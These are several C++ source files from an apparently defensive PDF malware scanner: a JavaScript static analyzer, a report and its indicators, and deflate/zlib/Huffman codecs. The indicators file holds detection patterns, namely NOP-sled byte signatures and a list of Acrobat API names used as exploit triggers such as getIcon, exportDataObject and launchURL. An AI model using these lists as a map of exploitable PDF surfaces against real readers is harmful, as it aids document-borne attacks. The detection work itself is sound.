      const std::size_t n = arr->elems.size();
      const std::optional<double> raw_a =
          args.empty() ? std::optional<double>(std::nan(""))
                       : to_number(args[0]);
      if (!raw_a) return AV::top();
      const std::int64_t a = clamp_index(*raw_a, n);
      std::int64_t b = static_cast<std::int64_t>(n);
      if (args.size() > 1) {
        const std::optional<double> raw_b = to_number(args[1]);
        if (!raw_b) return AV::top();
        b = clamp_index(*raw_b, n);
      }
      auto out = std::make_shared<ArrayState>();
      for (std::int64_t i = a; i < b; ++i) {
        out->elems.push_back(arr->elems[static_cast<std::size_t>(i)]);
      }
      return AV::of_array(std::move(out));
    }
    if (method == "indexOf") {
      const AV target = args.empty() ? AV::of(Value()) : args[0];
      for (std::size_t i = 0; i < arr->elems.size(); ++i) {
        const std::optional<bool> eq = strict_equals(arr->elems[i], target);
        if (!eq) return AV::top();
        if (*eq) return AV::of(Value(static_cast<double>(i)));
      }
      return AV::of(Value(-1.0));
    }
    if (method == "reverse") {
      std::reverse(arr->elems.begin(), arr->elems.end());
      return base;
    }
    if (method == "toString") {
      const std::optional<std::string> s = to_string(base);
      return s ? fold_string(*s) : AV::top();
    }
    // sort (comparator callbacks), unshift/splice, unknown methods:
    // degrade the array rather than model them.
    arr->poisoned = true;
    for (const AV& a : args) poison_if_array(a);
    poison_function_effects();  // sort's comparator may be a user function
    return AV::top();
  }

  const Caps& caps_;
  Report& rep_;
  std::map<std::string, AV> env_;
  std::set<std::string> function_assigned_names_;
  std::set<std::string> function_mutated_arrays_;
  int poisoned_ = 0;   ///< >0: writes degrade to Top, flow is unordered
  int opaque_ = 0;     ///< >0: reads are Top too (unknown execution time)
  int loop_depth_ = 0;
  std::size_t eval_depth_ = 0;
  std::size_t total_bytes_ = 0;
};

}  // namespace

Report analyze_script(std::string_view source, const Caps& caps) {
  Report rep;
  Analyzer analyzer(caps, rep);
  analyzer.run(source);
  return rep;
}

Report analyze_scripts(const std::vector<std::string>& sources,
                       const Caps& caps) {
  Report merged = empty_document_report();
  for (const std::string& src : sources) {
    merged.merge(analyze_script(src, caps));
  }
  return merged;
}

}  // namespace pdfshield::jsstatic
