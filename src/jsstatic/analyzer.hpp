// Flow-insensitive-in-name, execution-ordered-in-practice abstract
// interpretation over the js:: AST. The abstract domain is a constant
// lattice (Top / known scalar / known array) whose Known elements are
// real js::Value scalars, so every fold reuses the interpreter's own
// conversion routines and agrees with runtime evaluation byte-for-byte.
//
// The analyzer statically resolves the arguments reaching the code
// sinks (eval, app.setTimeOut/setInterval, Doc.addScript), re-parses
// resolved eval payloads up to Caps::max_eval_depth, and computes the
// per-script indicator facts described in report.hpp. It never executes
// host APIs and is deterministic and allocation-bounded (see Caps).
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "jsstatic/report.hpp"

namespace pdfshield::jsstatic {

/// Analyzes one script in a fresh abstract environment.
Report analyze_script(std::string_view source, const Caps& caps = {});

/// Analyzes each script independently (fresh environment per script —
/// cross-script execution order is not statically known) and merges the
/// per-script reports into a document-level view.
Report analyze_scripts(const std::vector<std::string>& sources,
                       const Caps& caps = {});

}  // namespace pdfshield::jsstatic
