// Pure helpers behind the per-script indicator facts: byte-pattern scans
// over folded strings (NOP sled, shellcode) and obfuscation metrics over
// the raw source. Kept separate from the analyzer so tests can probe the
// thresholds directly.
#pragma once

#include <string>
#include <string_view>

namespace pdfshield::jsstatic {

/// True when `bytes` contains a run of at least `min_run` 0x90 bytes, or
/// the textual escape chain "%u9090%u9090" (the un-folded spelling of the
/// same sled). The corpus sled decodes to 8 consecutive 0x90 bytes, so
/// the default run length matches it without firing on lone 0x90 bytes
/// inside ordinary text.
bool has_nop_sled(std::string_view bytes, std::size_t min_run = 8);

/// Shannon entropy in bits per byte of `text`; 0 for empty input.
double shannon_entropy(std::string_view text);

/// Fraction of source characters that sit inside %uXXXX / \xNN / \uNNNN
/// escape sequences. Obfuscated payload carriers score high; hand-written
/// form scripts score ~0.
double escape_sequence_density(std::string_view source);

/// True for Acrobat API member names whose presence is suspicious in
/// benign documents (exploit triggers and staging surfaces: getIcon,
/// media.newPlayer, getAnnots, xfa, exportDataObject, addScript,
/// setTimeOut, setInterval, launchURL, getURL). Benign-corpus surfaces
/// (getField, alert, printf, printd, SOAP.request, ...) are excluded.
bool is_suspicious_api(std::string_view name);

}  // namespace pdfshield::jsstatic
