// Typed result of the static Javascript analysis pass. One Report per
// analyzed script; document-level consumers merge the per-script reports
// with Report::merge. The prefilter contract lives in proven_clean():
// a document may skip detonation ONLY when every script's report proves
// the absence of code sinks and behavioural indicators — any cap firing
// (truncated) or parse failure disqualifies the document.
#pragma once

#include <cstddef>
#include <map>
#include <string>
#include <vector>

#include "support/json.hpp"

namespace pdfshield::jsstatic {

/// Hard resource caps. The analyzer is allocation-bounded: no single
/// folded string exceeds max_string_bytes, the per-script folding total
/// is bounded by max_total_bytes, and traversal work is bounded by
/// max_node_visits. Whenever a cap fires the report's `truncated` flag is
/// set and the affected value degrades to non-constant (never silently
/// wrong).
struct Caps {
  std::size_t max_eval_depth = 4;          ///< nested eval re-parse depth
  std::size_t max_node_visits = 500'000;   ///< AST node evaluations
  std::size_t max_string_bytes = std::size_t{1} << 20;   ///< per folded string
  // Cumulative fold budget. Additive string-growth loops cost O(n^2)
  // copying up to this cap, so it directly prices analysis of spray-style
  // scripts; 4 MiB keeps that bounded at milliseconds while staying far
  // above anything a benign script folds (which is what proven_clean()
  // needs — capped scripts are never proven clean, they just detonate).
  std::size_t max_total_bytes = std::size_t{4} << 20;    ///< per-script folds
  std::size_t max_loop_iterations = 65'536;  ///< bounded concrete loops
  std::size_t max_resolved_per_sink = 16;    ///< distinct payloads recorded
  std::size_t spray_bytes = 256 * 1024;  ///< growth-loop bound flagged as spray
};

/// One call site whose argument reaches a code sink (eval / setTimeOut /
/// setInterval / addScript). `resolved` holds the exact strings the
/// analyzer proved can reach the sink; `non_constant` is set when at least
/// one reaching value could not be proven (Top lattice element, poisoned
/// control flow, or the resolved-set cap fired).
struct SinkSite {
  std::string kind;
  std::size_t offset = 0;      ///< source byte offset of the call
  std::size_t eval_depth = 0;  ///< 0 = document script, 1+ = inside eval payload
  std::vector<std::string> resolved;
  bool non_constant = false;
};

struct Report {
  bool parse_ok = false;
  std::string parse_error;
  bool truncated = false;  ///< some cap fired; results are a lower bound

  std::size_t scripts = 0;  ///< programs analyzed incl. re-parsed eval payloads
  std::size_t node_visits = 0;
  std::size_t max_eval_depth_seen = 0;

  std::vector<SinkSite> sinks;

  // Indicator facts (paper-style behavioural hints, computed statically).
  std::size_t longest_string = 0;  ///< longest folded/literal string in bytes
  bool shellcode = false;          ///< reader/shellcode.hpp signature matched
  bool nop_sled = false;           ///< 0x90 run or %u9090 escape chain
  bool heap_spray_loop = false;    ///< growth loop with a large constant bound
  std::size_t spray_target_bytes = 0;  ///< largest growth-loop bound observed
  std::map<std::string, std::size_t> suspicious_apis;  ///< name -> ref count
  double identifier_entropy = 0.0;  ///< bits/char over identifier spellings
  double escape_density = 0.0;      ///< escape-sequence chars / source chars
  double obfuscation_score = 0.0;   ///< [0,1] blend of the two above

  std::size_t suspicious_api_count() const;
  bool sink_free() const { return parse_ok && !truncated && sinks.empty(); }

  /// The prefilter's soundness contract: true only when the script parsed,
  /// no cap fired, no sink exists at any eval depth, and none of the
  /// behavioural indicators (shellcode, NOP sled, spray loop, suspicious
  /// API references) is present. Documents failing ANY clause keep full
  /// detonation.
  bool proven_clean() const;

  /// Folds another script's report into this one (document-level view).
  void merge(const Report& other);

  support::Json to_json() const;
};

/// A document-level starting point for merge(): "no scripts seen yet" is
/// trivially clean, and merge() degrades it as script reports arrive.
Report empty_document_report();

}  // namespace pdfshield::jsstatic
