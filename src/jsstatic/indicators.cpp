#include "jsstatic/indicators.hpp"

#include <array>
#include <cmath>

namespace pdfshield::jsstatic {

bool has_nop_sled(std::string_view bytes, std::size_t min_run) {
  std::size_t run = 0;
  for (const char c : bytes) {
    if (static_cast<unsigned char>(c) == 0x90) {
      if (++run >= min_run) return true;
    } else {
      run = 0;
    }
  }
  return bytes.find("%u9090%u9090") != std::string_view::npos;
}

double shannon_entropy(std::string_view text) {
  if (text.empty()) return 0.0;
  std::array<std::size_t, 256> counts{};
  for (const char c : text) ++counts[static_cast<unsigned char>(c)];
  double entropy = 0.0;
  const double n = static_cast<double>(text.size());
  for (const std::size_t count : counts) {
    if (count == 0) continue;
    const double p = static_cast<double>(count) / n;
    entropy -= p * std::log2(p);
  }
  return entropy;
}

double escape_sequence_density(std::string_view source) {
  if (source.empty()) return 0.0;
  auto is_hex = [](char c) {
    return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') ||
           (c >= 'A' && c <= 'F');
  };
  std::size_t escaped = 0;
  std::size_t i = 0;
  while (i < source.size()) {
    if (source[i] == '%' && i + 5 < source.size() &&
        (source[i + 1] == 'u' || source[i + 1] == 'U') && is_hex(source[i + 2]) &&
        is_hex(source[i + 3]) && is_hex(source[i + 4]) && is_hex(source[i + 5])) {
      escaped += 6;
      i += 6;
      continue;
    }
    if (source[i] == '\\' && i + 3 < source.size() && source[i + 1] == 'x' &&
        is_hex(source[i + 2]) && is_hex(source[i + 3])) {
      escaped += 4;
      i += 4;
      continue;
    }
    if (source[i] == '\\' && i + 5 < source.size() && source[i + 1] == 'u' &&
        is_hex(source[i + 2]) && is_hex(source[i + 3]) && is_hex(source[i + 4]) &&
        is_hex(source[i + 5])) {
      escaped += 6;
      i += 6;
      continue;
    }
    ++i;
  }
  return static_cast<double>(escaped) / static_cast<double>(source.size());
}

bool is_suspicious_api(std::string_view name) {
  static constexpr std::array<std::string_view, 10> kNames = {
      "getIcon",     "newPlayer",        "getAnnots", "xfa",
      "exportDataObject", "addScript",   "setTimeOut", "setInterval",
      "launchURL",   "getURL",
  };
  for (const std::string_view candidate : kNames) {
    if (candidate == name) return true;
  }
  return false;
}

}  // namespace pdfshield::jsstatic
