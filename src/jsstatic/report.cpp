#include "jsstatic/report.hpp"

#include <algorithm>

#include "js/stringops.hpp"

namespace pdfshield::jsstatic {

std::size_t Report::suspicious_api_count() const {
  std::size_t total = 0;
  for (const auto& entry : suspicious_apis) total += entry.second;
  return total;
}

bool Report::proven_clean() const {
  return parse_ok && !truncated && sinks.empty() && !shellcode && !nop_sled &&
         !heap_spray_loop && suspicious_api_count() == 0;
}

void Report::merge(const Report& other) {
  parse_ok = parse_ok && other.parse_ok;
  if (parse_error.empty()) parse_error = other.parse_error;
  truncated = truncated || other.truncated;
  scripts += other.scripts;
  node_visits += other.node_visits;
  max_eval_depth_seen = std::max(max_eval_depth_seen, other.max_eval_depth_seen);
  sinks.insert(sinks.end(), other.sinks.begin(), other.sinks.end());
  longest_string = std::max(longest_string, other.longest_string);
  shellcode = shellcode || other.shellcode;
  nop_sled = nop_sled || other.nop_sled;
  heap_spray_loop = heap_spray_loop || other.heap_spray_loop;
  spray_target_bytes = std::max(spray_target_bytes, other.spray_target_bytes);
  for (const auto& entry : other.suspicious_apis) {
    suspicious_apis[entry.first] += entry.second;
  }
  identifier_entropy = std::max(identifier_entropy, other.identifier_entropy);
  escape_density = std::max(escape_density, other.escape_density);
  obfuscation_score = std::max(obfuscation_score, other.obfuscation_score);
}

support::Json Report::to_json() const {
  support::Json j = support::Json::object();
  j["parse_ok"] = parse_ok;
  if (!parse_error.empty()) j["parse_error"] = parse_error;
  j["truncated"] = truncated;
  j["scripts"] = static_cast<std::uint64_t>(scripts);
  j["node_visits"] = static_cast<std::uint64_t>(node_visits);
  j["max_eval_depth"] = static_cast<std::uint64_t>(max_eval_depth_seen);

  support::Json sink_list = support::Json::array();
  for (const SinkSite& s : sinks) {
    support::Json entry = support::Json::object();
    entry["kind"] = s.kind;
    entry["offset"] = static_cast<std::uint64_t>(s.offset);
    entry["eval_depth"] = static_cast<std::uint64_t>(s.eval_depth);
    entry["non_constant"] = s.non_constant;
    support::Json resolved = support::Json::array();
    for (const std::string& payload : s.resolved) {
      // Payloads can carry raw shellcode bytes; %-escape them so the JSON
      // report stays printable ASCII.
      resolved.push_back(js::escape_string(payload));
    }
    entry["resolved"] = std::move(resolved);
    sink_list.push_back(std::move(entry));
  }
  j["sinks"] = std::move(sink_list);

  support::Json ind = support::Json::object();
  ind["longest_string"] = static_cast<std::uint64_t>(longest_string);
  ind["shellcode"] = shellcode;
  ind["nop_sled"] = nop_sled;
  ind["heap_spray_loop"] = heap_spray_loop;
  ind["spray_target_bytes"] = static_cast<std::uint64_t>(spray_target_bytes);
  support::Json apis = support::Json::object();
  for (const auto& entry : suspicious_apis) {
    apis[entry.first] = static_cast<std::uint64_t>(entry.second);
  }
  ind["suspicious_apis"] = std::move(apis);
  ind["identifier_entropy"] = identifier_entropy;
  ind["escape_density"] = escape_density;
  ind["obfuscation_score"] = obfuscation_score;
  j["indicators"] = std::move(ind);

  j["proven_clean"] = proven_clean();
  return j;
}

Report empty_document_report() {
  Report rep;
  rep.parse_ok = true;
  return rep;
}

}  // namespace pdfshield::jsstatic
