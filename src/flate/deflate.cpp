#include "flate/deflate.hpp"

#include <array>
#include <tuple>
#include <utility>

#include "flate/bitstream.hpp"
#include "flate/huffman.hpp"

namespace pdfshield::flate {

using support::Bytes;
using support::BytesView;

namespace {

constexpr int kMinMatch = 3;
constexpr int kMaxMatch = 258;
constexpr std::size_t kWindowSize = 32768;
constexpr int kHashBits = 15;
constexpr std::size_t kHashSize = 1u << kHashBits;

// Same tables as the decoder (RFC 1951 §3.2.5).
constexpr std::array<int, 29> kLengthBase = {
    3,  4,  5,  6,  7,  8,  9,  10, 11,  13,  15,  17,  19,  23, 27,
    31, 35, 43, 51, 59, 67, 83, 99, 115, 131, 163, 195, 227, 258};
constexpr std::array<int, 29> kLengthExtra = {0, 0, 0, 0, 0, 0, 0, 0, 1, 1,
                                              1, 1, 2, 2, 2, 2, 3, 3, 3, 3,
                                              4, 4, 4, 4, 5, 5, 5, 5, 0};
constexpr std::array<int, 30> kDistBase = {
    1,    2,    3,    4,    5,    7,     9,     13,    17,   25,
    33,   49,   65,   97,   129,  193,   257,   385,   513,  769,
    1025, 1537, 2049, 3073, 4097, 6145,  8193,  12289, 16385, 24577};
constexpr std::array<int, 30> kDistExtra = {0, 0, 0,  0,  1,  1,  2,  2,  3,  3,
                                            4, 4, 5,  5,  6,  6,  7,  7,  8,  8,
                                            9, 9, 10, 10, 11, 11, 12, 12, 13, 13};

int length_code(int length) {
  for (int i = static_cast<int>(kLengthBase.size()) - 1; i >= 0; --i) {
    if (length >= kLengthBase[static_cast<std::size_t>(i)]) return i;
  }
  return 0;
}

int distance_code(std::size_t distance) {
  for (int i = static_cast<int>(kDistBase.size()) - 1; i >= 0; --i) {
    if (distance >= static_cast<std::size_t>(kDistBase[static_cast<std::size_t>(i)])) {
      return i;
    }
  }
  return 0;
}

std::vector<std::uint8_t> fixed_literal_lengths() {
  std::vector<std::uint8_t> lens(288);
  for (int i = 0; i <= 143; ++i) lens[static_cast<std::size_t>(i)] = 8;
  for (int i = 144; i <= 255; ++i) lens[static_cast<std::size_t>(i)] = 9;
  for (int i = 256; i <= 279; ++i) lens[static_cast<std::size_t>(i)] = 7;
  for (int i = 280; i <= 287; ++i) lens[static_cast<std::size_t>(i)] = 8;
  return lens;
}

Bytes deflate_stored(BytesView data) {
  BitWriter out;
  std::size_t pos = 0;
  do {
    const std::size_t chunk = std::min<std::size_t>(65535, data.size() - pos);
    const bool last = pos + chunk == data.size();
    out.write_bits(last ? 1 : 0, 1);
    out.write_bits(0, 2);  // stored
    out.align_to_byte();
    out.write_bits(static_cast<std::uint32_t>(chunk), 16);
    out.write_bits(static_cast<std::uint32_t>(chunk ^ 0xffffu), 16);
    out.align_to_byte();
    out.write_aligned_bytes(data.subspan(pos, chunk));
    pos += chunk;
  } while (pos < data.size());
  return out.take();
}

std::uint32_t hash3(BytesView data, std::size_t i) {
  const std::uint32_t v = static_cast<std::uint32_t>(data[i]) |
                          (static_cast<std::uint32_t>(data[i + 1]) << 8) |
                          (static_cast<std::uint32_t>(data[i + 2]) << 16);
  return (v * 2654435761u) >> (32 - kHashBits);
}

Bytes deflate_fixed(BytesView data) {
  static const std::vector<HuffmanCode> kLitCodes =
      assign_canonical_codes(fixed_literal_lengths());
  static const std::vector<HuffmanCode> kDistCodes =
      assign_canonical_codes(std::vector<std::uint8_t>(30, 5));

  BitWriter out;
  out.write_bits(1, 1);  // single final block
  out.write_bits(1, 2);  // fixed Huffman

  auto emit_literal = [&](std::uint8_t byte) {
    const HuffmanCode& c = kLitCodes[byte];
    out.write_huffman_code(c.code, c.length);
  };
  auto emit_match = [&](int length, std::size_t distance) {
    const int lc = length_code(length);
    const HuffmanCode& c = kLitCodes[static_cast<std::size_t>(257 + lc)];
    out.write_huffman_code(c.code, c.length);
    out.write_bits(
        static_cast<std::uint32_t>(length - kLengthBase[static_cast<std::size_t>(lc)]),
        kLengthExtra[static_cast<std::size_t>(lc)]);
    const int dc = distance_code(distance);
    const HuffmanCode& d = kDistCodes[static_cast<std::size_t>(dc)];
    out.write_huffman_code(d.code, d.length);
    out.write_bits(
        static_cast<std::uint32_t>(distance -
                                   static_cast<std::size_t>(
                                       kDistBase[static_cast<std::size_t>(dc)])),
        kDistExtra[static_cast<std::size_t>(dc)]);
  };

  // Hash-chain LZ77 with a lazy-match heuristic (zlib's deflate_slow
  // shape): head[h] is the most recent position with hash h, prev[i %
  // window] chains back through earlier positions. Before committing a
  // match found at position i, the matcher peeks at i+1; if a strictly
  // longer match starts there, position i is demoted to a literal.
  std::vector<std::int64_t> head(kHashSize, -1);
  std::vector<std::int64_t> prev(kWindowSize, -1);
  constexpr int kMaxChain = 64;
  // A pending match at least this long is emitted without looking for a
  // better one at the next position (diminishing returns on long matches).
  constexpr int kLazyCutoff = 128;

  auto insert = [&](std::size_t pos) {
    if (pos + kMinMatch > data.size()) return;
    const std::uint32_t h = hash3(data, pos);
    prev[pos % kWindowSize] = head[h];
    head[h] = static_cast<std::int64_t>(pos);
  };

  // Longest match starting at `pos` (also inserts `pos` into the chains).
  auto longest_match = [&](std::size_t pos) -> std::pair<int, std::size_t> {
    int best_len = 0;
    std::size_t best_dist = 0;
    if (pos + kMinMatch > data.size()) {
      return {best_len, best_dist};
    }
    const std::uint32_t h = hash3(data, pos);
    std::int64_t cand = head[h];
    const int limit =
        static_cast<int>(std::min<std::size_t>(kMaxMatch, data.size() - pos));
    int chain = 0;
    while (cand >= 0 && chain < kMaxChain &&
           pos - static_cast<std::size_t>(cand) <= kWindowSize) {
      const std::size_t c = static_cast<std::size_t>(cand);
      // Cheap rejection: a longer match must extend past the current best.
      if (best_len == 0 ||
          data[c + static_cast<std::size_t>(best_len)] ==
              data[pos + static_cast<std::size_t>(best_len)]) {
        int len = 0;
        while (len < limit && data[c + static_cast<std::size_t>(len)] ==
                                  data[pos + static_cast<std::size_t>(len)]) {
          ++len;
        }
        if (len > best_len) {
          best_len = len;
          best_dist = pos - c;
          // A match can't extend past `limit` (end of input or kMaxMatch);
          // stopping here also keeps the rejection peek at best_len in
          // bounds on the next candidate.
          if (len >= limit) break;
        }
      }
      cand = prev[c % kWindowSize];
      ++chain;
    }
    prev[pos % kWindowSize] = head[h];
    head[h] = static_cast<std::int64_t>(pos);
    return {best_len, best_dist};
  };

  std::size_t i = 0;
  int prev_len = 0;
  std::size_t prev_dist = 0;
  bool match_pending = false;  // match of prev_len at position i-1
  while (i < data.size()) {
    int cur_len = 0;
    std::size_t cur_dist = 0;
    if (match_pending && prev_len >= kLazyCutoff) {
      insert(i);  // keep chains complete, skip the redundant search
    } else {
      std::tie(cur_len, cur_dist) = longest_match(i);
    }

    if (match_pending) {
      if (cur_len > prev_len) {
        // The match one position later is longer: the pending byte becomes
        // a literal and the new match becomes the pending one.
        emit_literal(data[i - 1]);
        prev_len = cur_len;
        prev_dist = cur_dist;
        ++i;
      } else {
        emit_match(prev_len, prev_dist);
        // Positions i-1 and i are already in the chains; insert the rest of
        // the matched span so later matches can reference it.
        const std::size_t match_end = (i - 1) + static_cast<std::size_t>(prev_len);
        for (std::size_t p = i + 1; p < match_end; ++p) insert(p);
        i = match_end;
        match_pending = false;
      }
    } else if (cur_len >= kMinMatch) {
      match_pending = true;
      prev_len = cur_len;
      prev_dist = cur_dist;
      ++i;
    } else {
      emit_literal(data[i]);
      ++i;
    }
  }
  if (match_pending) {
    // Pending match at the final position scanned.
    emit_match(prev_len, prev_dist);
  }

  const HuffmanCode& eob = kLitCodes[256];
  out.write_huffman_code(eob.code, eob.length);
  return out.take();
}

}  // namespace

Bytes deflate(BytesView data, DeflateStrategy strategy) {
  switch (strategy) {
    case DeflateStrategy::kStored:
      if (data.empty()) {
        // An empty payload still needs one (final, empty) stored block.
        BitWriter out;
        out.write_bits(1, 1);
        out.write_bits(0, 2);
        out.align_to_byte();
        out.write_bits(0, 16);
        out.write_bits(0xffff, 16);
        return out.take();
      }
      return deflate_stored(data);
    case DeflateStrategy::kFixedHuffman:
      return deflate_fixed(data);
  }
  throw support::LogicError("unknown deflate strategy");
}

}  // namespace pdfshield::flate
