#include "flate/zlib.hpp"

#include "flate/inflate.hpp"
#include "support/checksum.hpp"
#include "support/error.hpp"

namespace pdfshield::flate {

using support::Bytes;
using support::BytesView;
using support::DecodeError;

Bytes zlib_compress(BytesView data, DeflateStrategy strategy) {
  Bytes out;
  // CMF: method 8 (deflate), 32K window. FLG chosen so (CMF*256+FLG) % 31 == 0.
  const std::uint8_t cmf = 0x78;
  std::uint8_t flg = 0x9c;
  out.push_back(cmf);
  out.push_back(flg);
  Bytes body = deflate(data, strategy);
  out.insert(out.end(), body.begin(), body.end());
  const std::uint32_t a = support::adler32(data);
  out.push_back(static_cast<std::uint8_t>(a >> 24));
  out.push_back(static_cast<std::uint8_t>(a >> 16));
  out.push_back(static_cast<std::uint8_t>(a >> 8));
  out.push_back(static_cast<std::uint8_t>(a));
  return out;
}

Bytes zlib_decompress(BytesView stream, std::size_t max_output) {
  if (stream.size() < 6) throw DecodeError("zlib stream too short");
  const std::uint8_t cmf = stream[0];
  const std::uint8_t flg = stream[1];
  if ((cmf & 0x0f) != 8) throw DecodeError("zlib: unsupported compression method");
  if ((static_cast<unsigned>(cmf) * 256 + flg) % 31 != 0) {
    throw DecodeError("zlib: header check failed");
  }
  if (flg & 0x20) throw DecodeError("zlib: preset dictionary not supported");

  const BytesView body = stream.subspan(2, stream.size() - 6);
  Bytes out = inflate(body, max_output);

  const std::size_t t = stream.size() - 4;
  const std::uint32_t expect = (static_cast<std::uint32_t>(stream[t]) << 24) |
                               (static_cast<std::uint32_t>(stream[t + 1]) << 16) |
                               (static_cast<std::uint32_t>(stream[t + 2]) << 8) |
                               static_cast<std::uint32_t>(stream[t + 3]);
  if (support::adler32(out) != expect) throw DecodeError("zlib: adler32 mismatch");
  return out;
}

}  // namespace pdfshield::flate
