#include "flate/huffman.hpp"

#include <algorithm>
#include <array>

#include "support/error.hpp"

namespace pdfshield::flate {

using support::DecodeError;

namespace {

/// Reverses the low `len` bits of `code` (DEFLATE codes are MSB-first in
/// code space but enter the LSB-first bit stream reversed).
std::uint32_t bit_reverse(std::uint32_t code, int len) {
  std::uint32_t rev = 0;
  for (int i = 0; i < len; ++i) {
    rev = (rev << 1) | ((code >> i) & 1);
  }
  return rev;
}

}  // namespace

HuffmanDecoder::HuffmanDecoder(const std::vector<std::uint8_t>& lengths) {
  for (std::uint8_t l : lengths) max_len_ = std::max<int>(max_len_, l);
  if (max_len_ > 15) throw DecodeError("huffman code length > 15");

  std::array<int, 16> counts{};
  for (std::uint8_t l : lengths) {
    if (l > 0) ++counts[l];
  }

  // Kraft inequality check: reject over-subscribed codes. (Incomplete codes
  // are accepted — their unused table entries stay 0 and fail at decode.)
  long long remaining = 1;
  for (int l = 1; l <= max_len_; ++l) {
    remaining <<= 1;
    remaining -= counts[static_cast<std::size_t>(l)];
    if (remaining < 0) throw DecodeError("over-subscribed huffman code");
  }

  // Canonical code assignment: next_code[l] is the next code of length l.
  std::array<std::uint32_t, 16> next_code{};
  std::uint32_t code = 0;
  for (int l = 1; l <= max_len_; ++l) {
    code = (code + static_cast<std::uint32_t>(counts[static_cast<std::size_t>(l - 1)]))
           << 1;
    next_code[static_cast<std::size_t>(l)] = code;
  }

  root_.assign(kRootSize, 0);
  if (max_len_ == 0) return;  // no symbols: every decode fails

  // For codes longer than the root table, size one secondary table per root
  // prefix: 2^(longest code sharing that prefix - kRootBits) entries.
  std::array<std::uint8_t, kRootSize> sub_bits{};
  std::array<std::uint32_t, kRootSize> sub_offset{};
  if (max_len_ > kRootBits) {
    std::array<std::uint32_t, 16> probe = next_code;
    for (std::size_t sym = 0; sym < lengths.size(); ++sym) {
      const int l = lengths[sym];
      if (l <= kRootBits) continue;
      const std::uint32_t rev = bit_reverse(probe[static_cast<std::size_t>(l)]++, l);
      const std::uint32_t prefix = rev & (kRootSize - 1);
      sub_bits[prefix] = std::max<std::uint8_t>(
          sub_bits[prefix], static_cast<std::uint8_t>(l - kRootBits));
    }
    std::uint32_t total = 0;
    for (std::uint32_t p = 0; p < kRootSize; ++p) {
      if (sub_bits[p] == 0) continue;
      sub_offset[p] = total;
      total += 1u << sub_bits[p];
      root_[p] = kSubFlag | (sub_offset[p] << 5) | sub_bits[p];
    }
    sub_.assign(total, 0);
  }

  for (std::size_t sym = 0; sym < lengths.size(); ++sym) {
    const int l = lengths[sym];
    if (l == 0) continue;
    const std::uint32_t rev =
        bit_reverse(next_code[static_cast<std::size_t>(l)]++, l);
    const std::uint32_t entry =
        (static_cast<std::uint32_t>(sym) << 5) | static_cast<std::uint32_t>(l);
    if (l <= kRootBits) {
      // Fill every root slot whose low `l` bits equal the reversed code.
      const std::uint32_t step = 1u << l;
      for (std::uint32_t idx = rev; idx < kRootSize; idx += step) {
        root_[idx] = entry;
      }
    } else {
      const std::uint32_t prefix = rev & (kRootSize - 1);
      const std::uint32_t high = rev >> kRootBits;  // l - kRootBits bits
      const std::uint32_t step = 1u << (l - kRootBits);
      const std::uint32_t size = 1u << sub_bits[prefix];
      for (std::uint32_t idx = high; idx < size; idx += step) {
        sub_[sub_offset[prefix] + idx] = entry;
      }
    }
  }
}

void HuffmanDecoder::throw_bad_code(const BitReader& in) {
  // Fewer real bits than a full refill provides means the input itself ran
  // out; otherwise the bits name a code that is not in the table.
  if (in.buffered_bits() < 15) throw DecodeError("deflate stream truncated");
  throw DecodeError("invalid huffman code");
}

std::vector<HuffmanCode> assign_canonical_codes(
    const std::vector<std::uint8_t>& lengths) {
  int max_len = 0;
  for (std::uint8_t l : lengths) max_len = std::max<int>(max_len, l);
  std::vector<int> counts(static_cast<std::size_t>(max_len) + 1, 0);
  for (std::uint8_t l : lengths) {
    if (l > 0) ++counts[l];
  }
  std::vector<std::uint32_t> next(static_cast<std::size_t>(max_len) + 1, 0);
  std::uint32_t code = 0;
  for (int l = 1; l <= max_len; ++l) {
    code = (code + static_cast<std::uint32_t>(counts[l - 1])) << 1;
    next[l] = code;
  }
  std::vector<HuffmanCode> out(lengths.size());
  for (std::size_t sym = 0; sym < lengths.size(); ++sym) {
    const std::uint8_t l = lengths[sym];
    if (l > 0) out[sym] = {next[l]++, l};
  }
  return out;
}

}  // namespace pdfshield::flate
