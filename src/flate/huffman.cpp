#include "flate/huffman.hpp"

#include "support/error.hpp"

namespace pdfshield::flate {

using support::DecodeError;

HuffmanDecoder::HuffmanDecoder(const std::vector<std::uint8_t>& lengths) {
  for (std::uint8_t l : lengths) max_len_ = std::max<int>(max_len_, l);
  if (max_len_ > 15) throw DecodeError("huffman code length > 15");
  counts_.assign(static_cast<std::size_t>(max_len_) + 1, 0);
  for (std::uint8_t l : lengths) {
    if (l > 0) ++counts_[l];
  }

  // Kraft inequality check: reject over-subscribed codes.
  long long remaining = 1;
  for (int l = 1; l <= max_len_; ++l) {
    remaining <<= 1;
    remaining -= counts_[l];
    if (remaining < 0) throw DecodeError("over-subscribed huffman code");
  }

  first_code_.assign(static_cast<std::size_t>(max_len_) + 1, 0);
  offsets_.assign(static_cast<std::size_t>(max_len_) + 1, 0);
  std::uint32_t code = 0;
  int offset = 0;
  for (int l = 1; l <= max_len_; ++l) {
    code = (code + static_cast<std::uint32_t>(counts_[l - 1])) << 1;
    first_code_[l] = code;
    offsets_[l] = offset;
    offset += counts_[l];
  }

  sorted_.resize(static_cast<std::size_t>(offset));
  std::vector<int> next(offsets_);
  for (std::size_t sym = 0; sym < lengths.size(); ++sym) {
    const int l = lengths[sym];
    if (l > 0) sorted_[static_cast<std::size_t>(next[l]++)] = static_cast<int>(sym);
  }
}

int HuffmanDecoder::decode(BitReader& in) const {
  std::uint32_t code = 0;
  for (int l = 1; l <= max_len_; ++l) {
    code = (code << 1) | in.read_bit();
    const int count = counts_[l];
    if (count > 0 && code < first_code_[l] + static_cast<std::uint32_t>(count)) {
      if (code >= first_code_[l]) {
        return sorted_[static_cast<std::size_t>(
            offsets_[l] + static_cast<int>(code - first_code_[l]))];
      }
    }
  }
  throw DecodeError("invalid huffman code");
}

std::vector<HuffmanCode> assign_canonical_codes(
    const std::vector<std::uint8_t>& lengths) {
  int max_len = 0;
  for (std::uint8_t l : lengths) max_len = std::max<int>(max_len, l);
  std::vector<int> counts(static_cast<std::size_t>(max_len) + 1, 0);
  for (std::uint8_t l : lengths) {
    if (l > 0) ++counts[l];
  }
  std::vector<std::uint32_t> next(static_cast<std::size_t>(max_len) + 1, 0);
  std::uint32_t code = 0;
  for (int l = 1; l <= max_len; ++l) {
    code = (code + static_cast<std::uint32_t>(counts[l - 1])) << 1;
    next[l] = code;
  }
  std::vector<HuffmanCode> out(lengths.size());
  for (std::size_t sym = 0; sym < lengths.size(); ++sym) {
